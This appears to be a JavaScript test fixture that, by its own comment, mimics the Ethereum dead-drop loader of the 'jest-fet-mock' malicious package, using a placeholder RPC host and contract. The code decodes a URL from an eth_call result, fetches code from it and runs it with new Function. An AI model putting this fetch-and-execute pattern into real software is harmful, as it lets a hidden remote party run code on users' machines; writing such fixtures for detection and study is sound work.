// Mimics the jest-fet-mock Ethereum dead drop: eth_call returns the next-stage URL, whose code is run (defanged).
async function stage() {
  const res = await fetch('https://eth-rpc.invalid/', {
    method: 'POST',
    body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: '0xFIXTURE', data: '0x' }, 'latest'] }),
  });
  const { result } = await res.json();
  const next = Buffer.from(result.slice(2), 'hex').toString();
  const code = await (await fetch(next)).text();
  new Function(code)();
}
module.exports = stage;
